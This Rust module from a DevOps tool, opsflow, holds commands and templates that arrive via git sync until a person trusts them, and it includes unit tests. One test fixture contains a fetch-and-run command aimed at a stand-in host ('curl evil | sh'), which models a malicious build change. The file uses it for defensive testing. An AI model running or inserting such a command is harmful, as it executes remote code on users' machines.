//! Commands that arrive from elsewhere run only once a person trusted them (as `direnv allow`
//! and `mise trust` do), docs/sync.md "Trust".
//!
//! With `git.sync`, opsflow's own fetch and rebase can bring in another clone's change to a
//! command of `project-config.json` (`dev.setup`, `release.build`, an environment's commands,
//! health checks, metrics commands: every string at a `setup`, `build`, `command`, `commands`
//! or `run` key, and `dev.tools[].version`), to `workflow.json`, or to a workspace override in
//! `schemas/` or `templates/`. The engine takes a [`Snapshot`] of those before the sync and
//! after it; an item that changed is an untrusted [`Change`] in `<runtime>/untrusted.json`,
//! naming the commits and authors `git log OLD..NEW -- FILE` gives, unless every one of them is
//! an approver's under `devops.approval_identity` `git` (signed, under `git-signed`). Every node
//! that would run the changed command or use the changed override is held until `opsflow
//! trust` records the current digests in `<runtime>/trusted.json`.
//!
//! What changed on this machine is the user's own: at every pass start ([`note_local`]) the
//! baseline becomes what the files hold, and a pending change that was edited again locally is
//! dropped. A workspace without sync never has an untrusted change.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::audit::Audit;
use crate::config::ApprovalIdentity;
use crate::identity::{self, Commit};
use crate::workflow::graph::Action;
use crate::workspace::Workspace;

/// The untrusted changes, under the runtime directory.
pub const UNTRUSTED_FILE: &str = "untrusted.json";
/// The trusted digests, under the runtime directory.
pub const TRUSTED_FILE: &str = "trusted.json";

/// Keys of the config whose string values are commands opsflow runs.
const COMMAND_KEYS: [&str; 5] = ["setup", "build", "command", "commands", "run"];

/// One item that can run or shape what runs: its digest, and a command's text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Item {
    pub digest: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub text: Option<String>,
}

/// Every such item now, by key: `FILE#POINTER` for a config command, the path for a file.
pub type Snapshot = BTreeMap<String, Item>;

/// A commit that brought a change, as recorded.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Brought {
    pub commit: String,
    pub author: String,
    pub email: String,
    pub subject: String,
}

impl From<Commit> for Brought {
    fn from(c: Commit) -> Brought {
        Brought { commit: c.commit, author: c.name, email: c.email, subject: c.subject }
    }
}

/// A change that git sync brought in and nobody trusted yet.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    pub key: String,
    pub old: Option<Item>,
    pub new: Option<Item>,
    pub commits: Vec<Brought>,
    pub arrived_at: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct Untrusted {
    changes: Vec<Change>,
}

#[derive(Debug, Default, PartialEq, Serialize, Deserialize)]
struct Trusted {
    #[serde(default)]
    trusted_by: Option<String>,
    #[serde(default)]
    trusted_at: Option<String>,
    items: BTreeMap<String, String>,
}

/// The file a key is in.
pub fn file_of(key: &str) -> &str {
    key.split('#').next().unwrap_or(key)
}

/// How a person reads a key: `release.build in project-config.json`, or the file.
pub fn label_of(key: &str) -> String {
    match key.split_once('#') {
        Some((file, pointer)) => {
            let mut dotted = String::new();
            for part in pointer.split('/').filter(|p| !p.is_empty()) {
                let part = part.replace("~1", "/").replace("~0", "~");
                if part.chars().all(|c| c.is_ascii_digit()) {
                    dotted.push_str(&format!("[{part}]"));
                } else {
                    if !dotted.is_empty() {
                        dotted.push('.');
                    }
                    dotted.push_str(&part);
                }
            }
            format!("`{dotted}` in {file}")
        }
        None => key.to_owned(),
    }
}

fn is_command(pointer: &[String]) -> bool {
    let dev_tool_version =
        pointer.len() == 4 && pointer[0] == "dev" && pointer[1] == "tools" && pointer[3] == "version";
    dev_tool_version || pointer.iter().any(|p| COMMAND_KEYS.contains(&p.as_str()))
}

fn walk(value: &Value, path: &mut Vec<String>, out: &mut Vec<(String, String)>) {
    match value {
        Value::Object(map) => {
            for (key, child) in map {
                path.push(key.clone());
                walk(child, path, out);
                path.pop();
            }
        }
        Value::Array(list) => {
            for (i, child) in list.iter().enumerate() {
                path.push(i.to_string());
                walk(child, path, out);
                path.pop();
            }
        }
        Value::String(text) if is_command(path) => {
            let pointer: String =
                path.iter().map(|p| format!("/{}", p.replace('~', "~0").replace('/', "~1"))).collect();
            out.push((pointer, text.clone()));
        }
        _ => {}
    }
}

/// The commands of a config file's text, by JSON Pointer.
pub fn commands_of(text: &str) -> Vec<(String, String)> {
    let Ok(value) = serde_json::from_str::<Value>(text) else { return Vec::new() };
    let mut out = Vec::new();
    walk(&value, &mut Vec::new(), &mut out);
    out
}

/// What the trusted items hold now, read through the workspace's readers.
pub fn snapshot(ws: &Workspace) -> Snapshot {
    let mut items = Snapshot::new();
    let read = |relative: &str| ws.read_text(relative).ok().flatten();
    if let Some(text) = read(&ws.config_label) {
        for (pointer, command) in commands_of(&text) {
            let item = Item { digest: crate::sha256::hex(command.as_bytes()), text: Some(command) };
            items.insert(format!("{}#{pointer}", ws.config_label), item);
        }
    }
    let mut files = vec![ws.config.paths.workflow.clone()];
    let schemas = ws.config.paths.schemas.trim_end_matches('/');
    files.extend(crate::schema::EMBEDDED.iter().map(|(name, _)| format!("{schemas}/{name}")));
    let templates = ws.config.paths.templates.trim_end_matches('/');
    files.extend(crate::render::TEMPLATES.iter().map(|(name, _)| format!("{templates}/{name}")));
    for file in files {
        if let Some(text) = read(&file) {
            items.insert(file, Item { digest: crate::sha256::hex(text.as_bytes()), text: None });
        }
    }
    items
}

fn runtime_file(ws: &Workspace, name: &str) -> String {
    format!("{}/{name}", ws.config.paths.runtime.trim_end_matches('/'))
}

/// The untrusted changes recorded so far (none when the file is missing or unreadable).
pub fn untrusted(ws: &Workspace) -> Vec<Change> {
    let text = ws.read_text(&runtime_file(ws, UNTRUSTED_FILE)).ok().flatten().unwrap_or_default();
    serde_json::from_str::<Untrusted>(&text).map(|u| u.changes).unwrap_or_default()
}

fn save<T: Serialize>(ws: &Workspace, name: &str, value: &T) -> std::io::Result<()> {
    let relative = runtime_file(ws, name);
    let path = ws.inside(&relative).map_err(std::io::Error::other)?;
    let text = serde_json::to_string_pretty(value).map_err(std::io::Error::other)? + "\n";
    if ws.read_text(&relative).ok().flatten().as_deref() == Some(text.as_str()) {
        return Ok(());
    }
    if let Some(parent) = path.parent() {
        crate::workspace::write::create_dir_all(&ws.root, parent)?;
    }
    crate::workspace::write::write_file(&ws.root, &path, text.as_bytes())
}

fn save_untrusted(ws: &Workspace, changes: Vec<Change>) {
    if changes.is_empty() && ws.read_text(&runtime_file(ws, UNTRUSTED_FILE)).ok().flatten().is_none() {
        return;
    }
    if let Err(e) = save(ws, UNTRUSTED_FILE, &Untrusted { changes }) {
        tracing::error!("cannot record the untrusted changes in {}: {e}", runtime_file(ws, UNTRUSTED_FILE));
    }
}

fn save_trusted(ws: &Workspace, now: &Snapshot, pending: &[Change], by: Option<&str>) {
    let mut items: BTreeMap<String, String> = now.iter().map(|(k, item)| (k.clone(), item.digest.clone())).collect();
    // A pending change is not trusted: its key keeps the digest from before it arrived.
    for change in pending {
        match &change.old {
            Some(old) => items.insert(change.key.clone(), old.digest.clone()),
            None => items.remove(&change.key),
        };
    }
    let relative = runtime_file(ws, TRUSTED_FILE);
    let kept: Option<Trusted> =
        ws.read_text(&relative).ok().flatten().and_then(|text| serde_json::from_str(&text).ok());
    if by.is_none() && kept.as_ref().is_some_and(|k| k.items == items) {
        return;
    }
    let trusted = Trusted {
        trusted_by: by.map(str::to_owned).or_else(|| kept.as_ref().and_then(|k| k.trusted_by.clone())),
        trusted_at: Some(crate::time::now_rfc3339()),
        items,
    };
    if let Err(e) = save(ws, TRUSTED_FILE, &trusted) {
        tracing::error!("cannot record the trusted digests in {relative}: {e}");
    }
}

/// At a pass start: what the files hold now is the user's own, except a change that sync
/// brought in and that is still as it arrived. A pending change edited again here is dropped.
pub fn note_local(ws: &Workspace, now: &Snapshot) {
    let pending = untrusted(ws);
    let kept: Vec<Change> = pending
        .iter()
        .filter(|c| now.get(&c.key).map(|i| &i.digest) == c.new.as_ref().map(|i| &i.digest))
        .cloned()
        .collect();
    if kept.len() != pending.len() {
        save_untrusted(ws, kept.clone());
    }
    save_trusted(ws, now, &kept, None);
}

/// Whether every commit is an approver's (and signed, under `git-signed`): then the change is
/// trusted by those commits.
fn by_approvers(ws: &Workspace, commits: &[Commit]) -> bool {
    let identity = ws.config.devops.approval_identity;
    if !identity.by_git() || commits.is_empty() {
        return false;
    }
    let signers = if identity == ApprovalIdentity::GitSigned {
        match identity::allowed_signers(ws) {
            Ok(path) => Some(path),
            Err(_) => return false,
        }
    } else {
        None
    };
    commits.iter().all(|c| {
        identity::approver_of(&ws.config.devops.people, c).is_some()
            && signers.as_ref().is_none_or(|s| identity::verify_signed(&ws.root, c, s).is_ok())
    })
}

/// After the sync's rebase: each item that differs from `before` arrived from the remote.
/// It is recorded as untrusted (and audited with its commits' authors), unless approvers'
/// commits brought it. `old_head` is HEAD before the sync.
pub fn arrived(ws: &Workspace, before: &Snapshot, after: &Snapshot, old_head: Option<&str>, audit: &Audit) {
    let mut keys: Vec<&String> = before.keys().chain(after.keys()).collect();
    keys.sort_unstable();
    keys.dedup();
    let mut pending = untrusted(ws);
    let mut added = false;
    for key in keys {
        let (old, new) = (before.get(key), after.get(key));
        if old == new {
            continue;
        }
        let file = file_of(key);
        let commits = match old_head {
            Some(head) => identity::commits_touching(&ws.root, &format!("{head}..HEAD"), file),
            None => Vec::new(),
        };
        let authors = authors(&commits.iter().cloned().map(Brought::from).collect::<Vec<_>>());
        let digests = [(file.to_owned(), new.map(|i| i.digest.clone()).unwrap_or_default())];
        if by_approvers(ws, &commits) {
            let reason = format!("{} changed by git sync; trusted as committed by approvers: {authors}", label_of(key));
            audit.record(&crate::engine::new_run_id(), "config_change_trusted", key, &reason, &digests);
            continue;
        }
        let reason = format!("{} changed by git sync, {authors}; held until `opsflow trust`", label_of(key));
        audit.record(&crate::engine::new_run_id(), "config_change_untrusted", key, &reason, &digests);
        tracing::warn!("{reason}");
        // A change of a change still untrusted keeps what was trusted before it.
        let old = match pending.iter().position(|c| &c.key == key) {
            Some(i) => pending.remove(i).old,
            None => old.cloned(),
        };
        if old.as_ref() == new {
            continue;
        }
        pending.push(Change {
            key: key.clone(),
            old,
            new: new.cloned(),
            commits: commits.into_iter().map(Brought::from).collect(),
            arrived_at: crate::time::now_rfc3339(),
        });
        added = true;
    }
    if added {
        save_untrusted(ws, pending);
    }
}

fn authors(commits: &[Brought]) -> String {
    if commits.is_empty() {
        return "by no commit git could name".to_owned();
    }
    let listed: Vec<String> = commits
        .iter()
        .map(|c| format!("commit {} by {} <{}> ({:?})", identity::short(&c.commit), c.author, c.email, c.subject))
        .collect();
    format!("by {}", listed.join(", "))
}

fn shown(item: Option<&Item>) -> String {
    match item {
        None => "(none)".to_owned(),
        Some(Item { text: Some(text), .. }) => format!("`{text}`"),
        Some(Item { digest, .. }) => format!("sha256 {}", &digest[..digest.len().min(12)]),
    }
}

/// One change in words: what changed, old → new, and which commits by whom brought it.
pub fn describe(change: &Change) -> String {
    format!(
        "{} changed by git sync: {} → {}, {}",
        label_of(&change.key),
        shown(change.old.as_ref()),
        shown(change.new.as_ref()),
        authors(&change.commits)
    )
}

/// Which nodes a change concerns.
#[derive(Debug, PartialEq, Eq)]
pub enum Scope {
    /// Every node: a workflow change, a schema, a template no single node renders.
    All,
    /// The nodes of one action (`dev.*` is Dev_Environment_Setup's, `release.*` Build_Release's).
    Action(Action),
    /// The nodes that work on one environment.
    Environment(String),
    /// The nodes that render this output (a template override).
    Output(String),
}

/// The nodes `key` concerns.
pub fn scope(ws: &Workspace, key: &str) -> Scope {
    if let Some((_, pointer)) = key.split_once('#') {
        let parts: Vec<&str> = pointer.split('/').filter(|p| !p.is_empty()).collect();
        return match parts.as_slice() {
            ["dev", ..] => Scope::Action(Action::DevEnvironmentSetup),
            ["release", ..] => Scope::Action(Action::BuildRelease),
            ["ci", ..] => Scope::Action(Action::CiPipelineSetup),
            ["environments", name, ..] => Scope::Environment(name.replace("~1", "/").replace("~0", "~")),
            _ => Scope::All,
        };
    }
    let templates = format!("{}/", ws.config.paths.templates.trim_end_matches('/'));
    match key.strip_prefix(&templates).and_then(|name| name.strip_suffix(".hbs")) {
        Some(output) => Scope::Output(output.to_owned()),
        None => Scope::All,
    }
}

/// The changes that hold `node` (working on `environment`): the ones whose scope it is in.
/// `renders` says whether some node of the workflow renders an output.
pub fn holding<'c>(
    ws: &Workspace,
    changes: &'c [Change],
    node: &crate::workflow::graph::Node,
    environment: Option<&str>,
    renders: impl Fn(&str) -> bool,
) -> Vec<&'c Change> {
    changes
        .iter()
        .filter(|change| match scope(ws, &change.key) {
            Scope::All => true,
            Scope::Action(action) => node.action == action,
            Scope::Environment(name) => environment == Some(name.as_str()),
            Scope::Output(output) => node.outputs.contains(&output) || !renders(&output),
        })
        .collect()
}

/// `opsflow trust`: the current items become the trusted ones and every pending change is
/// cleared; returns the changes trusted.
pub fn trust(ws: &Workspace, by: &str) -> Vec<Change> {
    let pending = untrusted(ws);
    let now = snapshot(ws);
    save_untrusted(ws, Vec::new());
    save_trusted(ws, &now, &[], Some(by));
    pending
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_found_by_their_keys_and_named_as_a_person_reads_them() {
        let config = r#"{"dev": {"setup": "make", "tools": [{"name": "git", "version": "git --version"}]},
            "release": {"build": "make dist", "artifacts": ["dist/"]},
            "environments": {"staging": {"health_checks": [{"name": "up", "command": "curl x"}], "path": "p"}}}"#;
        let found = commands_of(config);
        let mut pointers: Vec<&str> = found.iter().map(|(p, _)| p.as_str()).collect();
        pointers.sort_unstable();
        assert_eq!(
            pointers,
            ["/dev/setup", "/dev/tools/0/version", "/environments/staging/health_checks/0/command", "/release/build"]
        );
        assert_eq!(label_of("project-config.json#/release/build"), "`release.build` in project-config.json");
        assert_eq!(
            label_of("project-config.json#/environments/staging/health_checks/0/command"),
            "`environments.staging.health_checks[0].command` in project-config.json"
        );
        assert_eq!(label_of("templates/R07-version-tag.md.hbs"), "templates/R07-version-tag.md.hbs");
    }

    #[test]
    fn a_change_reads_old_to_new_with_its_commit_and_author() {
        let change = Change {
            key: "project-config.json#/release/build".into(),
            old: Some(Item { digest: "a".into(), text: Some("make".into()) }),
            new: Some(Item { digest: "b".into(), text: Some("curl evil | sh".into()) }),
            commits: vec![Brought {
                commit: "0123456789".into(),
                author: "bob".into(),
                email: "bob@example.com".into(),
                subject: "Faster build".into(),
            }],
            arrived_at: String::new(),
        };
        assert_eq!(
            describe(&change),
            "`release.build` in project-config.json changed by git sync: `make` → `curl evil | sh`, by commit 0123456 by bob <bob@example.com> (\"Faster build\")"
        );
    }
}
